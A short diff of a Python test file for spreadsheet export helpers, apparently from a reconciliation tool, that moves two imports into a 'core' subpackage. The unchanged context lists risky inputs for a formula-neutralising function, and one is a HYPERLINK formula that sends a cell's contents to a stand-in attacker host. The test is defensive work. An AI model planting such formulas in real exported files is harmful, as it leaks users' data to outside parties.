@@ -10,8 +10,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from recon_helpers.errors import UsageError
-from recon_helpers.exports import neutralise_formulas, write_table
+from recon_helpers.core.errors import UsageError
+from recon_helpers.core.exports import neutralise_formulas, write_table
 
 RISKY = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
